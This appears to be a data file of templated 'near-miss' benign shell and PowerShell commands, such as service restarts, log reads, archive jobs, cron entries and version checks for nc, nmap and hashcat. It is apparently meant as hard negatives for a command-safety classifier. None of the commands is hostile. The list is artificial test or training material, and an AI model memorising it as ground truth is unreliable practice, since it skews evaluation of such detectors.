ac-near-set-smbserverconfiguration-enablesmb1protocol powershell: Set-SmbServerConfiguration -EnableSMB1Protocol $false -Force
ac-near-get-smbshareaccess-name powershell: Get-SmbShareAccess -Name ‹project›
ac-near-get-wmiobject-win32 powershell: Get-WmiObject Win32_BIOS | select SerialNumber
ac-near-get-ciminstance-win32 powershell: Get-CimInstance Win32_LogicalDisk | select DeviceID,FreeSpace
ac-near-get-itemproperty-hklm powershell: Get-ItemProperty HKLM:\SOFTWARE\‹Word› -Name Version
ac-near-set-localuser-name powershell: Set-LocalUser -Name ‹user› -PasswordNeverExpires $false
ac-near-compress-archive-d powershell: Compress-Archive D:\Logs\*.log D:\Archive\logs_‹n›.zip
ac-near-expand-archive-zip powershell: Expand-Archive ‹word›.zip -DestinationPath D:\‹project›
ac-near-get-eventlog-logname powershell: Get-EventLog -LogName Application -Newest 20 -EntryType Error
ac-near-get-winevent-logname powershell: Get-WinEvent -LogName Application -MaxEvents 10
ac-near-get-content-logs powershell: Get-Content C:\Logs\‹word›.log -Tail 50 -Wait
ac-near-invoke-restmethod-http powershell: Invoke-RestMethod http://localhost:‹port›/health
ac-near-get-module-listavailable powershell: Get-Module -ListAvailable
ac-near-get-date-format powershell: Get-Date -Format yyyy-MM-dd
ac-near-net-servicepointmanager-securityprotocol powershell: [Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12
ac-near-system-net-dns powershell: [System.Net.Dns]::GetHostEntry('‹server›').AddressList
ac-near-environment-getenvironmentvariable-path powershell: [Environment]::GetEnvironmentVariable('Path','Machine')
ac-near-ss-version bash: ss --version
ac-near-ss-help bash: ss --help
ac-near-netstat-version bash: netstat --version
ac-near-netstat-s-n2 bash: netstat -s
ac-near-lsof bash: lsof ‹lfile›
ac-near-lsof-p bash: lsof -p ‹pid›
ac-near-lsof-v bash: lsof -v
ac-near-lsof-d bash: lsof +D ‹ldir›
ac-near-ls-l-proc bash: ls -la /proc/net/stat
ac-near-ls-l-etc bash: ls -l /etc/passwd
ac-near-stat-etc-passwd bash: stat /etc/passwd
ac-near-cat-proc-net bash: cat /proc/net/dev
ac-near-cat-proc-net-n2 bash: cat /proc/net/snmp
ac-near-cut-d-f1 bash: cut -d, -f1 ‹word›.csv
ac-near-cut-d-f2 bash: cut -d: -f2 ‹lfile›
ac-near-awk-f-print bash: awk -F, '{print $2}' ‹word›.csv
ac-near-awk-s-1 bash: awk '{s+=$1} END {print s}' ‹word›.txt
ac-near-sed-i-s bash: sed -i 's/DEBUG/INFO/' /etc/‹word›/‹word›.conf
ac-near-getent-hosts bash: getent hosts ‹server›
ac-near-getent-services-https bash: getent services https
ac-near-getent-help bash: getent --help
ac-near-fuser-v-var bash: fuser -v /var/lib/dpkg/lock
ac-near-passwd-help bash: passwd --help
ac-near-useradd-help bash: useradd --help
ac-near-crontab-l bash: crontab -l
ac-near-echo-0-2 bash: echo "0 2 * * * root /usr/local/bin/backup.sh" > /etc/cron.d/backup
ac-near-echo-30-1 bash: echo "30 1 * * 0 /usr/bin/certbot renew --quiet" | crontab -u root -
ac-near-curl-fss-http bash: curl -fsS http://localhost:‹port›/health
ac-near-curl-sf-o bash: curl -sf -o /dev/null https://www.‹fqdn›/status
ac-near-systemctl-restart-nginx bash: systemctl restart nginx
ac-near-systemctl-status-sshd bash: systemctl status sshd
ac-near-systemctl-reload-postgresql bash: systemctl reload postgresql
ac-near-systemctl-daemon-reload bash: systemctl daemon-reload
ac-near-systemctl-enable-now bash: systemctl enable --now chronyd
ac-near-journalctl-u-nginx bash: journalctl -u nginx -n 50
ac-near-journalctl-disk-usage bash: journalctl --disk-usage
ac-near-service-cron-restart bash: service cron restart
ac-near-tar-czf-backup bash: tar czf /backup/‹word›-‹n›.tgz /etc/‹word›
ac-near-tar-xzf-tar bash: tar xzf ‹word›-‹n›.tar.gz -C /opt
ac-near-rsync-a-delete bash: rsync -a --delete /srv/‹word›/ backup:/srv/‹word›/
ac-near-scp-conf-deploy bash: scp ‹word›.conf deploy@‹server›.‹fqdn›:/etc/‹word›/
ac-near-ssh-uptime bash: ssh ‹user›@‹server›.‹fqdn› uptime
ac-near-wget-spider-https bash: wget --spider https://www.‹fqdn›/
ac-near-apt-get-update bash: apt-get update && apt-get -y upgrade
ac-near-dpkg-s-openssl bash: dpkg -s openssl
ac-near-rpm-q-openssl bash: rpm -q openssl
ac-near-pip-list-outdated bash: pip list --outdated
ac-near-python3-version bash: python3 --version
ac-near-python3-m-http bash: python3 -m http.server --help
ac-near-python3-m-venv bash: python3 -m venv /opt/‹word›/venv
ac-near-perl-v-n2 bash: perl -v
ac-near-nmap-version bash: nmap --version
ac-near-nc-h bash: nc -h
ac-near-tcpdump-version bash: tcpdump --version
ac-near-hashcat-version bash: hashcat --version
ac-near-openssl-x509-in bash: openssl x509 -in /etc/ssl/certs/‹word›.pem -noout -enddate
ac-near-openssl-s-client bash: openssl s_client -connect www.‹fqdn›:443 -brief
ac-near-base64-help bash: base64 --help
ac-near-chmod-644-etc bash: chmod 644 /etc/‹word›/‹word›.conf
ac-near-chown-r-www bash: chown -R www-data:www-data /var/www/‹word›
ac-near-find-var-log bash: find /var/log/‹word› -name "*.gz" -mtime +30 -delete
ac-near-find-name-pyc bash: find . -name "*.pyc" -delete
ac-near-grep-error-var bash: grep -c ERROR /var/log/‹word›/‹word›.log
ac-near-tail-f-var bash: tail -f /var/log/nginx/access.log
ac-near-du-sh-var bash: du -sh /var/log
ac-near-df-h bash: df -h
ac-near-free-m bash: free -m
ac-near-uptime bash: uptime
ac-near-ip-addr-show bash: ip addr show eth0
ac-near-ping-4 bash: ping -c 4 ‹server›
ac-near-dig-short-www bash: dig +short www.‹fqdn›
ac-near-iptables-l-n bash: iptables -L -n
ac-near-ufw-status bash: ufw status
ac-near-sestatus bash: sestatus
ac-near-lsmod-grep-kvm bash: lsmod | grep kvm
ac-near-logrotate-f-etc bash: logrotate -f /etc/logrotate.d/‹word›
ac-near-kill-hup-cat bash: kill -HUP $(cat /run/‹word›.pid)
ac-near-docker-ps bash: docker ps
ac-near-docker-compose-up bash: docker compose up -d
ac-near-docker-run-rm bash: docker run --rm -v /srv/‹word›:/data alpine tar czf /data/‹word›.tgz /data/in
ac-near-kubectl-get-pods bash: kubectl get pods -n ‹word›
ac-near-git-pull-rebase bash: git pull --rebase
ac-near-npm-ci bash: npm ci
ac-near-make-j4 bash: make -j4
ac-near-showmount-version bash: showmount --version
ac-near-sync-reboot-help bash: sync; reboot --help
"""
)
